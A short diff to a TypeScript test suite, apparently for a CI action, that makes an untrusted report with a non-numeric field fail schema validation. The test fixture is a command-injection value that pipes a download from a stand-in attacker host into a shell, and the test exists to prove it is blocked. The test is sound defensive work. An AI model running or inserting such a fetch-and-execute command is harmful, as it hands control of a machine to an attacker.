@@ -119,14 +119,15 @@ describe('run (mode: comment)', () => {
     expect(body).not.toContain('mallory')
   })
 
-  it('copies only finite numbers from an untrusted report into outputs', async () => {
+  it('refuses an untrusted report whose numbers are not numbers, in one line, and outputs nothing of it', async () => {
     const report = makeReport({ verdict: 'pass' })
     const hostile = '1; curl http://evil.example | sh #'
     ;(report.runs.head.trends.heap as unknown as { slopePerSec: string }).slopePerSec = hostile
-    report.runs.head.trends.goroutines!.slopePerSec = NaN
     await runWith(report, { comment: 'never' })
-    expect(outputs()['heap-slope']).toBe('')
-    expect(outputs()['goroutine-slope']).toBe('')
+    expect(stdout).toMatch(
+      /^::error::Invalid input: report-json: .*report\.json does not follow the report\.json schema \(schemaVersion 2\): \/runs\/head\/trends\/heap\/slopePerSec must be number$/m
+    )
+    expect(outputs()['heap-slope']).toBeUndefined()
     expect(readFileSync(files.output, 'utf8')).not.toContain('curl')
   })
 
